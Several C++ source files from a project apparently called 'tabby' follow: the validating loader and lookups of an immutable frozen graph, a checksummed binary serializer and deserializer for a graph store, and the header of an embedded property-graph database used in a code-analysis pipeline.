    // cite an edge whose endpoints and type agree. Together with the strict
    // per-node ordering this makes each direction a permutation of 0..M-1.
    for (std::uint64_t i = 0; i < n; ++i) {
      for (std::uint64_t k = g.out_offsets_[i]; k < g.out_offsets_[i + 1]; ++k) {
        std::uint32_t e = g.out_edge_[k];
        if (g.edge_from_[e] != i || g.edge_to_[e] != g.out_nbr_[k] ||
            g.edge_type_[e] != g.out_type_[k]) {
          return frozen_err("out-adjacency disagrees with the edge table");
        }
      }
      for (std::uint64_t k = g.in_offsets_[i]; k < g.in_offsets_[i + 1]; ++k) {
        std::uint32_t e = g.in_edge_[k];
        if (g.edge_to_[e] != i || g.edge_from_[e] != g.in_nbr_[k] ||
            g.edge_type_[e] != g.in_type_[k]) {
          return frozen_err("in-adjacency disagrees with the edge table");
        }
      }
    }
  }

  // --- Property columns ---
  auto parse_columns = [&](std::uint32_t id, std::uint64_t count, const char* what,
                           std::vector<std::pair<std::string_view, FrozenColumn>>& out)
      -> util::Status {
    const Section& s = sections[id - 1];
    std::uint64_t pos = s.off;
    const std::uint64_t end = s.off + s.len;
    auto bad = [&](std::string msg) {
      return frozen_err(std::string(what) + " column " + std::move(msg), pos);
    };
    auto need = [&](std::uint64_t bytes) { return bytes <= end - pos; };
    if (!need(8)) return bad("section truncated");
    std::uint64_t ncols = rd_u64(frame, pos);
    pos += 8;
    const std::uint64_t words = (count + 63) / 64;
    std::string_view prev_key;
    out.reserve(static_cast<std::size_t>(ncols));
    for (std::uint64_t c = 0; c < ncols; ++c) {
      if (!need(8)) return bad("key truncated");
      std::uint64_t key_len = rd_u64(frame, pos);
      pos += 8;
      if (!need(key_len)) return bad("key truncated");
      std::string_view key(reinterpret_cast<const char*>(frame.data() + pos),
                           static_cast<std::size_t>(key_len));
      pos = align8(pos + key_len);
      if (c > 0 && !(prev_key < key)) return bad("keys not strictly ascending");
      prev_key = key;
      if (pos > end || !need(16)) return bad("header truncated");
      std::uint64_t kind_raw = rd_u64(frame, pos);
      pos += 8;
      if (kind_raw > static_cast<std::uint64_t>(FrozenColumnKind::Mixed)) {
        return bad("has a bad kind tag");
      }
      std::uint64_t stored_words = rd_u64(frame, pos);
      pos += 8;
      if (stored_words != words) return bad("presence bitmap size mismatch");
      if (!need(words * 8)) return bad("presence bitmap truncated");
      FrozenColumn col;
      col.kind_ = static_cast<FrozenColumnKind>(kind_raw);
      col.presence_ = typed_span<std::uint64_t>(frame, pos, words);
      pos += words * 8;
      auto offsets_block = [&](std::uint64_t& total) -> util::Status {
        if (!need((count + 1) * 8 + 8)) return bad("offsets truncated");
        col.offsets_ = typed_span<std::uint64_t>(frame, pos, count + 1);
        pos += (count + 1) * 8;
        if (col.offsets_[0] != 0) return bad("offsets corrupt");
        for (std::uint64_t i = 1; i <= count; ++i) {
          if (col.offsets_[i] < col.offsets_[i - 1]) return bad("offsets not monotonic");
        }
        total = rd_u64(frame, pos);
        pos += 8;
        if (col.offsets_[count] != total) return bad("blob length disagrees with offsets");
        return util::Status::ok_status();
      };
      switch (col.kind_) {
        case FrozenColumnKind::Bool: {
          if (!need(words * 8)) return bad("value bitmap truncated");
          col.words_ = typed_span<std::uint64_t>(frame, pos, words);
          pos += words * 8;
          break;
        }
        case FrozenColumnKind::Int: {
          if (!need(count * 8)) return bad("values truncated");
          col.ints_ = typed_span<std::int64_t>(frame, pos, count);
          pos += count * 8;
          break;
        }
        case FrozenColumnKind::Real: {
          if (!need(count * 8)) return bad("values truncated");
          col.words_ = typed_span<std::uint64_t>(frame, pos, count);
          pos += count * 8;
          break;
        }
        case FrozenColumnKind::Str: {
          std::uint64_t total = 0;
          if (auto st = offsets_block(total); !st.ok()) return st;
          if (!need(total)) return bad("string blob truncated");
          col.chars_ = typed_span<char>(frame, pos, total);
          pos = align8(pos + total);
          if (pos > end) return bad("string blob truncated");
          break;
        }
        case FrozenColumnKind::IntList: {
          std::uint64_t total = 0;
          if (auto st = offsets_block(total); !st.ok()) return st;
          if (!need(total * 8)) return bad("int-list pool truncated");
          col.ints_ = typed_span<std::int64_t>(frame, pos, total);
          pos += total * 8;
          break;
        }
        case FrozenColumnKind::Mixed: {
          std::uint64_t total = 0;
          if (auto st = offsets_block(total); !st.ok()) return st;
          if (!need(total)) return bad("value blob truncated");
          col.blob_ = frame.subspan(pos, total);
          pos = align8(pos + total);
          if (pos > end) return bad("value blob truncated");
          break;
        }
      }
      out.emplace_back(key, col);
    }
    if (pos != end) return bad("section has trailing bytes");
    return util::Status::ok_status();
  };
  if (auto st = parse_columns(kSecNodeProps, n, "node", g.node_columns_); !st.ok()) {
    return st.error();
  }
  if (auto st = parse_columns(kSecEdgeProps, m, "edge", g.edge_columns_); !st.ok()) {
    return st.error();
  }

  // --- Cardinality stats (optional section 17) ---
  if (section_count == kFrozenSectionCountWithStats) {
    const Section& s = sections[kSecStats - 1];
    if (s.len < 8) return frozen_err("stats section truncated", s.off);
    std::uint64_t payload_len = rd_u64(frame, s.off);
    if (payload_len > s.len - 8) return frozen_err("stats payload out of bounds", s.off);
    util::ByteReader in(frame.subspan(s.off + 8, payload_len));
    auto stats = decode_stats(in);
    if (!stats.ok()) return frozen_err("stats section corrupt: " + stats.error().message, s.off);
    if (!in.at_end()) return frozen_err("trailing bytes in the stats section", s.off);
    // The totals must agree with the frame header; a lying stats section is
    // as fatal as any other structural corruption.
    if (stats.value().nodes != n || stats.value().edges != m) {
      return frozen_err("stats section disagrees with the frame's node/edge counts", s.off);
    }
    g.stats_ = std::move(stats.value());
  }

  g.owned_ = std::move(storage);
  g.mapping_ = std::move(mapping);
  g.frame_ = frame;
  g.charge_ = util::ScopedCharge(memory, frame.size());
  return g;
}

util::Result<FrozenGraph> FrozenGraph::from_bytes(std::span<const std::byte> frame,
                                                  util::MemoryBudget* memory) {
  std::vector<std::byte> copy(frame.begin(), frame.end());
  return adopt(std::move(copy), memory);
}

util::Result<FrozenGraph> FrozenGraph::adopt(std::vector<std::byte> frame,
                                             util::MemoryBudget* memory) {
  std::span<const std::byte> view(frame);
  return attach(view, std::move(frame), nullptr, memory);
}

util::Result<FrozenGraph> FrozenGraph::map_file(const std::filesystem::path& path,
                                                std::size_t frame_offset,
                                                util::MemoryBudget* memory) {
  if ((frame_offset & 7) != 0) {
    return frozen_err("frame offset " + std::to_string(frame_offset) + " is not 8-byte aligned");
  }
#ifdef TABBY_FROZEN_HAVE_MMAP
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    struct stat st{};
    if (::fstat(fd, &st) != 0) {
      ::close(fd);
      return Error{"cannot stat: " + path.string()};
    }
    auto file_size = static_cast<std::size_t>(st.st_size);
    if (file_size < frame_offset + kMinFrameSize) {
      ::close(fd);
      return frozen_err("truncated: " + std::to_string(file_size) +
                            " byte(s), smaller than the fixed header",
                        file_size);
    }
    void* base = ::mmap(nullptr, file_size, PROT_READ, MAP_PRIVATE, fd, 0);
    ::close(fd);
    if (base != MAP_FAILED) {
      std::shared_ptr<void> mapping(base, [file_size](void* p) { ::munmap(p, file_size); });
      std::uint64_t declared = rd_u64(
          std::span<const std::byte>(static_cast<const std::byte*>(base), file_size),
          frame_offset + 8);
      if (declared < kMinFrameSize || declared > file_size - frame_offset) {
        return frozen_err("truncated or oversized: header declares " + std::to_string(declared) +
                              " byte(s) but " + std::to_string(file_size - frame_offset) +
                              " are present",
                          frame_offset + 8);
      }
      std::span<const std::byte> frame(static_cast<const std::byte*>(base) + frame_offset,
                                       static_cast<std::size_t>(declared));
      return attach(frame, {}, std::move(mapping), memory);
    }
    // mmap refused (unusual filesystem) — fall through to the read path.
  }
#endif
  auto bytes = util::read_file(path);
  if (!bytes.ok()) return bytes.error();
  if (frame_offset > 0) {
    if (bytes.value().size() < frame_offset) {
      return frozen_err("truncated: file smaller than the frame offset");
    }
    std::vector<std::byte> sliced(bytes.value().begin() + static_cast<std::ptrdiff_t>(frame_offset),
                                  bytes.value().end());
    return adopt(std::move(sliced), memory);
  }
  return adopt(std::move(bytes.value()), memory);
}

util::Status FrozenGraph::save(const std::filesystem::path& path) const {
  std::ofstream out(path, std::ios::binary);
  if (!out) return Error{"cannot open for write: " + path.string()};
  out.write(reinterpret_cast<const char*>(frame_.data()),
            static_cast<std::streamsize>(frame_.size()));
  if (!out) return Error{"write failed: " + path.string()};
  return util::Status::ok_status();
}

// --- Lookups ----------------------------------------------------------------

std::optional<std::uint16_t> FrozenGraph::label_id(std::string_view label) const {
  for (std::uint64_t i = 0; i < label_table_.count; ++i) {
    if (table_entry(label_table_, static_cast<std::uint16_t>(i)) == label) {
      return static_cast<std::uint16_t>(i);
    }
  }
  return std::nullopt;
}

std::optional<std::uint16_t> FrozenGraph::edge_type_id(std::string_view type) const {
  for (std::uint64_t i = 0; i < type_table_.count; ++i) {
    if (table_entry(type_table_, static_cast<std::uint16_t>(i)) == type) {
      return static_cast<std::uint16_t>(i);
    }
  }
  return std::nullopt;
}

AdjacencyView FrozenGraph::typed_slice(std::span<const std::uint32_t> nbr,
                                       std::span<const std::uint32_t> edge,
                                       std::span<const std::uint16_t> type, std::uint64_t b,
                                       std::uint64_t e, std::uint16_t t) {
  auto first = type.begin() + static_cast<std::ptrdiff_t>(b);
  auto last = type.begin() + static_cast<std::ptrdiff_t>(e);
  auto lo = std::lower_bound(first, last, t);
  auto hi = std::upper_bound(lo, last, t);
  auto begin = static_cast<std::uint64_t>(lo - type.begin());
  auto end = static_cast<std::uint64_t>(hi - type.begin());
  return slice(nbr, edge, type, begin, end);
}

const FrozenColumn* FrozenGraph::node_column(std::string_view key) const {
  auto it = std::lower_bound(
      node_columns_.begin(), node_columns_.end(), key,
      [](const auto& entry, std::string_view k) { return entry.first < k; });
  return it != node_columns_.end() && it->first == key ? &it->second : nullptr;
}

const FrozenColumn* FrozenGraph::edge_column(std::string_view key) const {
  auto it = std::lower_bound(
      edge_columns_.begin(), edge_columns_.end(), key,
      [](const auto& entry, std::string_view k) { return entry.first < k; });
  return it != edge_columns_.end() && it->first == key ? &it->second : nullptr;
}

std::optional<Value> FrozenGraph::node_prop(NodeId n, std::string_view key) const {
  const FrozenColumn* col = node_column(key);
  return col != nullptr ? col->get_value(n) : std::nullopt;
}

std::optional<Value> FrozenGraph::edge_prop(EdgeId e, std::string_view key) const {
  const FrozenColumn* col = edge_column(key);
  return col != nullptr ? col->get_value(e) : std::nullopt;
}

std::string_view FrozenGraph::node_prop_string(NodeId n, std::string_view key) const {
  const FrozenColumn* col = node_column(key);
  return col != nullptr ? col->get_string(n) : std::string_view{};
}

bool FrozenGraph::node_prop_bool(NodeId n, std::string_view key) const {
  const FrozenColumn* col = node_column(key);
  return col != nullptr && col->get_bool(n);
}

std::int64_t FrozenGraph::node_prop_int(NodeId n, std::string_view key,
                                        std::int64_t fallback) const {
  const FrozenColumn* col = node_column(key);
  return col != nullptr ? col->get_int(n, fallback) : fallback;
}

std::vector<NodeId> FrozenGraph::nodes_with_label(std::string_view label) const {
  std::vector<NodeId> out;
  auto id = label_id(label);
  if (!id.has_value()) return out;
  for (std::uint64_t i = 0; i < node_count_; ++i) {
    if (node_label_ids_[i] == *id) out.push_back(i);
  }
  return out;
}

std::vector<NodeId> FrozenGraph::find_nodes(std::string_view label, std::string_view key,
                                            const Value& value) const {
  std::vector<NodeId> out;
  auto id = label_id(label);
  if (!id.has_value()) return out;
  const FrozenColumn* col = node_column(key);
  if (col == nullptr) return out;
  for (std::uint64_t i = 0; i < node_count_; ++i) {
    if (node_label_ids_[i] != *id || !col->has(i)) continue;
    auto v = col->get_value(i);
    if (v.has_value() && value_equals(*v, value)) out.push_back(i);
  }
  return out;
}

}  // namespace tabby::graph
