#include "graph/serialize.hpp"

#include <fstream>

#include "util/bytes.hpp"
#include "util/digest.hpp"
#include "util/failpoint.hpp"

namespace tabby::graph {

namespace {

using util::ByteReader;
using util::ByteWriter;
using util::Error;
using util::Result;

// Header: magic + version + payload length; the checksum trails the payload.
constexpr std::size_t kHeaderSize = 4 + 2 + 8;
constexpr std::size_t kChecksumSize = 8;

}  // namespace

void write_value(ByteWriter& out, const Value& v) {
  struct Visitor {
    ByteWriter& out;
    void operator()(std::monostate) { out.u8(0); }
    void operator()(bool b) {
      out.u8(1);
      out.u8(b ? 1 : 0);
    }
    void operator()(std::int64_t i) {
      out.u8(2);
      out.svarint(i);
    }
    void operator()(double d) {
      out.u8(3);
      std::uint64_t bits;
      static_assert(sizeof bits == sizeof d);
      __builtin_memcpy(&bits, &d, sizeof bits);
      out.uvarint(bits);
    }
    void operator()(const std::string& s) {
      out.u8(4);
      out.bytes(s);
    }
    void operator()(const std::vector<std::int64_t>& xs) {
      out.u8(5);
      out.uvarint(xs.size());
      for (std::int64_t x : xs) out.svarint(x);
    }
    void operator()(const std::vector<std::string>& xs) {
      out.u8(6);
      out.uvarint(xs.size());
      for (const std::string& x : xs) out.bytes(x);
    }
  };
  std::visit(Visitor{out}, v);
}

Result<Value> read_value(ByteReader& in) {
  auto tag = in.u8();
  if (!tag.ok()) return tag.error();
  switch (tag.value()) {
    case 0:
      return Value{std::monostate{}};
    case 1: {
      auto b = in.u8();
      if (!b.ok()) return b.error();
      return Value{b.value() != 0};
    }
    case 2: {
      auto i = in.svarint();
      if (!i.ok()) return i.error();
      return Value{i.value()};
    }
    case 3: {
      auto bits = in.uvarint();
      if (!bits.ok()) return bits.error();
      double d;
      std::uint64_t raw = bits.value();
      __builtin_memcpy(&d, &raw, sizeof d);
      return Value{d};
    }
    case 4: {
      auto s = in.bytes();
      if (!s.ok()) return s.error();
      return Value{std::move(s.value())};
    }
    case 5: {
      auto n = in.count("int list");
      if (!n.ok()) return n.error();
      std::vector<std::int64_t> xs;
      xs.reserve(n.value());
      for (std::size_t i = 0; i < n.value(); ++i) {
        auto x = in.svarint();
        if (!x.ok()) return x.error();
        xs.push_back(x.value());
      }
      return Value{std::move(xs)};
    }
    case 6: {
      auto n = in.count("string list");
      if (!n.ok()) return n.error();
      std::vector<std::string> xs;
      xs.reserve(n.value());
      for (std::size_t i = 0; i < n.value(); ++i) {
        auto x = in.bytes();
        if (!x.ok()) return x.error();
        xs.push_back(std::move(x.value()));
      }
      return Value{std::move(xs)};
    }
    default:
      return Error{"bad value tag", in.position()};
  }
}

namespace {

void write_props(ByteWriter& out, const PropertyMap& props) {
  out.uvarint(props.size());
  for (const auto& [key, value] : props) {
    out.bytes(key);
    write_value(out, value);
  }
}

Result<PropertyMap> read_props(ByteReader& in) {
  auto n = in.count("property");
  if (!n.ok()) return n.error();
  PropertyMap props;
  props.reserve(n.value());
  for (std::size_t i = 0; i < n.value(); ++i) {
    auto key = in.bytes();
    if (!key.ok()) return key.error();
    auto value = read_value(in);
    if (!value.ok()) return value.error();
    // Keys were emitted in map order, so appending at the end is O(1); a
    // corrupt out-of-order key degrades to a normal insert, not an error.
    props.emplace_hint(props.end(), std::move(key.value()), std::move(value.value()));
  }
  return props;
}

}  // namespace

void encode_stats(ByteWriter& out, const CardinalityStats& stats) {
  out.uvarint(stats.nodes);
  out.uvarint(stats.edges);
  out.uvarint(stats.labels.size());
  for (const auto& [label, count] : stats.labels) {
    out.bytes(label);
    out.uvarint(count);
  }
  out.uvarint(stats.edge_types.size());
  for (const auto& [type, count] : stats.edge_types) {
    out.bytes(type);
    out.uvarint(count);
  }
}

Result<CardinalityStats> decode_stats(ByteReader& in) {
  CardinalityStats stats;
  auto nodes = in.uvarint();
  if (!nodes.ok()) return nodes.error();
  stats.nodes = nodes.value();
  auto edges = in.uvarint();
  if (!edges.ok()) return edges.error();
  stats.edges = edges.value();
  for (auto* entries : {&stats.labels, &stats.edge_types}) {
    auto n = in.count("stats entry");
    if (!n.ok()) return n.error();
    entries->reserve(n.value());
    for (std::size_t i = 0; i < n.value(); ++i) {
      auto name = in.bytes();
      if (!name.ok()) return name.error();
      auto count = in.uvarint();
      if (!count.ok()) return count.error();
      if (!entries->empty() && entries->back().first >= name.value()) {
        return Error{"cardinality stats entries out of order", in.position()};
      }
      entries->emplace_back(std::move(name.value()), count.value());
    }
  }
  return stats;
}

std::vector<std::byte> serialize(const GraphDb& db, bool with_stats) {
  // Payload first: the header needs its size, the trailer its checksum.
  ByteWriter out;

  // Live elements only; ids are re-assigned densely on load. Build the
  // old-id -> new-id mapping while emitting nodes.
  std::vector<const Node*> nodes;
  db.for_each_node([&](const Node& n) { nodes.push_back(&n); });
  std::vector<const Edge*> edges;
  db.for_each_edge([&](const Edge& e) { edges.push_back(&e); });

  std::unordered_map<NodeId, std::uint64_t> remap;
  remap.reserve(nodes.size());
  for (std::size_t i = 0; i < nodes.size(); ++i) remap[nodes[i]->id] = i;

  out.uvarint(nodes.size());
  for (const Node* n : nodes) {
    out.bytes(n->label);
    write_props(out, n->props);
  }
  out.uvarint(edges.size());
  for (const Edge* e : edges) {
    out.uvarint(remap.at(e->from));
    out.uvarint(remap.at(e->to));
    out.bytes(e->type);
    write_props(out, e->props);
  }
  std::vector<std::byte> payload = out.take();

  ByteWriter store;
  store.u32(kGraphStoreMagic);
  store.u16(kGraphStoreVersion);
  store.u64(payload.size());
  for (std::byte b : payload) store.u8(static_cast<std::uint8_t>(b));
  if (with_stats) {
    ByteWriter stats;
    encode_stats(stats, db.cardinality());
    std::vector<std::byte> stats_payload = stats.take();
    store.u32(kGraphStoreStatsMagic);
    store.u64(stats_payload.size());
    for (std::byte b : stats_payload) store.u8(static_cast<std::uint8_t>(b));
  }
  store.u64(util::fnv1a(store.data()));
  return store.take();
}

util::Result<GraphDb> deserialize(std::span<const std::byte> data) {
  if (util::failpoint::poll("graph.deserialize")) {
    return Error{"failpoint: injected graph store decode failure", 0};
  }
  if (data.size() < kHeaderSize + kChecksumSize) {
    return Error{"graph store truncated: " + std::to_string(data.size()) +
                     " byte(s), smaller than the fixed header",
                 data.size()};
  }
  ByteReader header(data);
  auto magic = header.u32();
  if (!magic.ok()) return magic.error();
  if (magic.value() != kGraphStoreMagic) {
    return Error{"not a tabby graph store (bad magic)", 0};
  }
  auto version = header.u16();
  if (!version.ok()) return version.error();
  if (version.value() != kGraphStoreVersion) {
    if (version.value() < kGraphStoreVersion) {
      return Error{"graph store version " + std::to_string(version.value()) +
                       " predates the checksummed format (this build reads version " +
                       std::to_string(kGraphStoreVersion) +
                       "); regenerate it with `tabby analyze --store`",
                   4};
    }
    return Error{"unsupported graph store version " + std::to_string(version.value()) +
                     " (this build reads version " + std::to_string(kGraphStoreVersion) + ")",
                 4};
  }
  auto declared = header.u64();
  if (!declared.ok()) return declared.error();
  std::size_t body = data.size() - kHeaderSize - kChecksumSize;
  if (declared.value() > body) {
    return Error{"graph store truncated: header declares " + std::to_string(declared.value()) +
                     " payload byte(s) but only " + std::to_string(body) + " are present",
                 kHeaderSize};
  }
  // Bytes beyond the declared payload must be exactly one stats block
  // (stores written before the planner existed end right at the payload).
  // Size-check the tail before the checksum so a store with appended or
  // missing bytes is diagnosed as such rather than as generic corruption.
  std::size_t stats_size = body - declared.value();
  constexpr std::size_t kStatsHeaderSize = 4 + 8;
  if (stats_size != 0) {
    if (stats_size < kStatsHeaderSize) {
      return Error{"graph store truncated or oversized: " + std::to_string(stats_size) +
                       " trailing byte(s) after the payload, too few for a stats block",
                   kHeaderSize + declared.value()};
    }
    ByteReader sizing(data.subspan(kHeaderSize + declared.value(), kStatsHeaderSize));
    auto sizing_magic = sizing.u32();
    if (!sizing_magic.ok()) return sizing_magic.error();
    if (sizing_magic.value() != kGraphStoreStatsMagic) {
      return Error{"trailing bytes after graph store payload are not a stats block",
                   kHeaderSize + declared.value()};
    }
    auto sizing_len = sizing.u64();
    if (!sizing_len.ok()) return sizing_len.error();
    if (kStatsHeaderSize + sizing_len.value() != stats_size) {
      return Error{"graph store truncated or oversized: stats block declares " +
                       std::to_string(sizing_len.value()) + " byte(s) but " +
                       std::to_string(stats_size - kStatsHeaderSize) + " follow",
                   kHeaderSize + declared.value() + 4};
    }
  }
  ByteReader trailer(data.subspan(data.size() - kChecksumSize));
  auto stored_sum = trailer.u64();
  if (!stored_sum.ok()) return stored_sum.error();
  std::uint64_t actual_sum = util::fnv1a(data.first(data.size() - kChecksumSize));
  if (stored_sum.value() != actual_sum) {
    return Error{"graph store checksum mismatch (corrupt or tampered store): expected " +
                     util::digest_hex(stored_sum.value()) + ", computed " +
                     util::digest_hex(actual_sum),
                 data.size() - kChecksumSize};
  }

  std::optional<CardinalityStats> stored_stats;
  if (stats_size != 0) {
    ByteReader tail(data.subspan(kHeaderSize + declared.value(), stats_size));
    auto stats_magic = tail.u32();
    if (!stats_magic.ok()) return stats_magic.error();
    if (stats_magic.value() != kGraphStoreStatsMagic) {
      return Error{"trailing bytes after graph store payload are not a stats block",
                   kHeaderSize + declared.value()};
    }
    auto stats_len = tail.u64();
    if (!stats_len.ok()) return stats_len.error();
    if (stats_len.value() != stats_size - kStatsHeaderSize) {
      return Error{"graph store stats block length mismatch: declares " +
                       std::to_string(stats_len.value()) + " byte(s) but " +
                       std::to_string(stats_size - kStatsHeaderSize) + " are present",
                   kHeaderSize + declared.value() + 4};
    }
    auto stats = decode_stats(tail);
    if (!stats.ok()) return stats.error();
    if (!tail.at_end()) {
      return Error{"trailing bytes after graph store stats block", tail.position()};
    }
    stored_stats = std::move(stats.value());
  }

  ByteReader in(data.subspan(kHeaderSize, declared.value()));
  GraphDb db;
  auto node_count = in.count("node");
  if (!node_count.ok()) return node_count.error();
  db.reserve(node_count.value(), 0);
  for (std::size_t i = 0; i < node_count.value(); ++i) {
    auto label = in.bytes();
    if (!label.ok()) return label.error();
    auto props = read_props(in);
    if (!props.ok()) return props.error();
    db.add_node(std::move(label.value()), std::move(props.value()));
  }
  auto edge_count = in.count("edge");
  if (!edge_count.ok()) return edge_count.error();
  db.reserve(node_count.value(), edge_count.value());
  for (std::size_t i = 0; i < edge_count.value(); ++i) {
    auto from = in.uvarint();
    if (!from.ok()) return from.error();
    auto to = in.uvarint();
    if (!to.ok()) return to.error();
    if (from.value() >= db.node_count() || to.value() >= db.node_count()) {
      return Error{"edge endpoint out of range", in.position()};
    }
    auto type = in.bytes();
    if (!type.ok()) return type.error();
    auto props = read_props(in);
    if (!props.ok()) return props.error();
    db.add_edge(from.value(), to.value(), std::move(type.value()), std::move(props.value()));
  }
  if (!in.at_end()) return Error{"trailing bytes after graph store payload", in.position()};
  // A stats block that disagrees with the graph it rides next to is as
  // corrupt as a bad checksum: reject rather than hand the planner lies.
  if (stored_stats.has_value() && !(*stored_stats == db.cardinality())) {
    return Error{"graph store stats block disagrees with the decoded graph",
                 kHeaderSize + declared.value()};
  }
  return db;
}

util::Status save(const GraphDb& db, const std::filesystem::path& path) {
  std::vector<std::byte> bytes = serialize(db);
  std::ofstream out(path, std::ios::binary);
  if (!out) return Error{"cannot open for write: " + path.string()};
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) return Error{"write failed: " + path.string()};
  return util::Status::ok_status();
}

util::Result<GraphDb> load(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary | std::ios::ate);
  if (!in) return Error{"cannot open for read: " + path.string()};
  std::streamsize size = in.tellg();
  in.seekg(0);
  std::vector<std::byte> bytes(static_cast<std::size_t>(size));
  in.read(reinterpret_cast<char*>(bytes.data()), size);
  if (!in) return Error{"read failed: " + path.string()};
  return deserialize(bytes);
}

}  // namespace tabby::graph
