// Embedded property-graph store: the repository's Neo4j substitute.
// Supports labeled nodes, typed directed edges, arbitrary properties,
// label scans, (label, property) equality indexes, edge removal (the PCG
// pruning operation), and binary persistence. Single-threaded by design —
// the pipeline builds one graph per analysis run.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "graph/value.hpp"

namespace tabby::util {
class Executor;
}

namespace tabby::graph {

using NodeId = std::uint64_t;
using EdgeId = std::uint64_t;
inline constexpr NodeId kNoNode = UINT64_MAX;
inline constexpr EdgeId kNoEdge = UINT64_MAX;

struct Node {
  NodeId id = kNoNode;
  std::string label;
  PropertyMap props;
  bool alive = true;

  const Value* prop(const std::string& key) const {
    auto it = props.find(key);
    return it == props.end() ? nullptr : &it->second;
  }
  std::string prop_string(const std::string& key) const {
    const Value* v = prop(key);
    const std::string* s = v != nullptr ? std::get_if<std::string>(v) : nullptr;
    return s != nullptr ? *s : std::string{};
  }
  std::int64_t prop_int(const std::string& key, std::int64_t fallback = 0) const {
    const Value* v = prop(key);
    const std::int64_t* i = v != nullptr ? std::get_if<std::int64_t>(v) : nullptr;
    return i != nullptr ? *i : fallback;
  }
  bool prop_bool(const std::string& key) const {
    const Value* v = prop(key);
    const bool* b = v != nullptr ? std::get_if<bool>(v) : nullptr;
    return b != nullptr && *b;
  }
};

struct Edge {
  EdgeId id = kNoEdge;
  NodeId from = kNoNode;
  NodeId to = kNoNode;
  std::string type;
  PropertyMap props;
  bool alive = true;

  const Value* prop(const std::string& key) const {
    auto it = props.find(key);
    return it == props.end() ? nullptr : &it->second;
  }
};

struct GraphStats {
  std::size_t node_count = 0;
  std::size_t edge_count = 0;
  std::unordered_map<std::string, std::size_t> nodes_by_label;
  std::unordered_map<std::string, std::size_t> edges_by_type;
};

/// Label/edge-type cardinalities in a deterministic (name-ascending) layout,
/// cheap to collect and small enough to persist next to every serialized
/// graph. The cypher planner reads these to pick start points and expansion
/// directions; entries count live elements only.
struct CardinalityStats {
  std::uint64_t nodes = 0;
  std::uint64_t edges = 0;
  std::vector<std::pair<std::string, std::uint64_t>> labels;      // sorted by name
  std::vector<std::pair<std::string, std::uint64_t>> edge_types;  // sorted by name

  std::uint64_t label_count(std::string_view label) const;
  std::uint64_t type_count(std::string_view type) const;

  bool operator==(const CardinalityStats& other) const {
    return nodes == other.nodes && edges == other.edges && labels == other.labels &&
           edge_types == other.edge_types;
  }
};

class GraphDb {
 public:
  GraphDb() = default;

  // Non-copyable (graphs are large); movable.
  GraphDb(const GraphDb&) = delete;
  GraphDb& operator=(const GraphDb&) = delete;
  GraphDb(GraphDb&&) = default;
  GraphDb& operator=(GraphDb&&) = default;

  // --- Mutation -------------------------------------------------------------

  /// Pre-sizes the node/edge stores (deserialize knows both counts up
  /// front; growth-doubling dominates bulk loads otherwise).
  void reserve(std::size_t nodes, std::size_t edges);

  NodeId add_node(std::string label, PropertyMap props = {});
  EdgeId add_edge(NodeId from, NodeId to, std::string type, PropertyMap props = {});

  /// Set/overwrite a node property, keeping indexes in sync.
  void set_node_prop(NodeId id, const std::string& key, Value value);
  void set_edge_prop(EdgeId id, const std::string& key, Value value);

  /// Tombstone an edge and unlink it from adjacency (used by PCG pruning).
  void remove_edge(EdgeId id);
  /// Tombstone a node and all incident edges.
  void remove_node(NodeId id);

  // --- Access ---------------------------------------------------------------

  bool node_alive(NodeId id) const { return id < nodes_.size() && nodes_[id].alive; }
  bool edge_alive(EdgeId id) const { return id < edges_.size() && edges_[id].alive; }

  /// Precondition: id refers to a live element (checked, throws out_of_range).
  const Node& node(NodeId id) const;
  const Edge& edge(EdgeId id) const;

  const std::vector<EdgeId>& out_edges(NodeId id) const;
  const std::vector<EdgeId>& in_edges(NodeId id) const;

  /// Out/in edges with a given type, filtered on the fly.
  std::vector<EdgeId> out_edges_typed(NodeId id, std::string_view type) const;
  std::vector<EdgeId> in_edges_typed(NodeId id, std::string_view type) const;

  /// First edge from -> to with the given type, if any.
  std::optional<EdgeId> find_edge(NodeId from, NodeId to, std::string_view type) const;

  std::size_t node_count() const { return live_nodes_; }
  std::size_t edge_count() const { return live_edges_; }
  std::size_t node_capacity() const { return nodes_.size(); }
  std::size_t edge_capacity() const { return edges_.size(); }

  std::vector<NodeId> nodes_with_label(std::string_view label) const;
  void for_each_node(const std::function<void(const Node&)>& fn) const;
  void for_each_edge(const std::function<void(const Edge&)>& fn) const;

  // --- Indexing -------------------------------------------------------------

  /// Create an equality index on (label, property). Existing nodes are
  /// back-filled; future mutations keep it current. Idempotent.
  void create_index(const std::string& label, const std::string& key);
  bool has_index(const std::string& label, const std::string& key) const;

  /// Creates several indexes at once. Each back-fill only reads the node
  /// store, so with an executor the per-index scans fan out across workers;
  /// the finished maps are installed serially in spec order, leaving the
  /// database in exactly the state repeated create_index() calls produce.
  void create_indexes(const std::vector<std::pair<std::string, std::string>>& specs,
                      util::Executor* executor = nullptr);

  /// Index-accelerated equality lookup; falls back to a label scan when no
  /// index exists.
  std::vector<NodeId> find_nodes(const std::string& label, const std::string& key,
                                 const Value& value) const;

  GraphStats stats() const;

  /// Deterministic label/edge-type cardinalities, O(distinct names) — label
  /// counts come from the label buckets, edge-type counts from an
  /// incrementally maintained tally, so this is cheap enough to call at
  /// every serialize/freeze.
  CardinalityStats cardinality() const;

 private:
  std::string index_name(const std::string& label, const std::string& key) const {
    return label + "" + key;
  }
  void index_insert(const Node& n);
  void index_erase_key(const Node& n, const std::string& key);
  /// Scans `label`'s nodes once and fills `index` (value key -> ids);
  /// shared back-fill for create_index and create_indexes.
  void backfill_index(const std::string& label, const std::string& key,
                      std::unordered_map<std::string, std::vector<NodeId>>& index) const;

  std::vector<Node> nodes_;
  std::vector<Edge> edges_;
  std::vector<std::vector<EdgeId>> out_;
  std::vector<std::vector<EdgeId>> in_;
  std::unordered_map<std::string, std::vector<NodeId>> by_label_;
  // Live-edge tally per type, maintained by add_edge/remove_edge so
  // cardinality() never scans the edge store.
  std::unordered_map<std::string, std::uint64_t> type_counts_;
  // (label \x01 key) -> value index-key -> node ids
  std::unordered_map<std::string, std::unordered_map<std::string, std::vector<NodeId>>> indexes_;
  std::size_t live_nodes_ = 0;
  std::size_t live_edges_ = 0;
};

}  // namespace tabby::graph
