// FrozenGraph: a build-once, immutable CSR freeze of a constructed CPG —
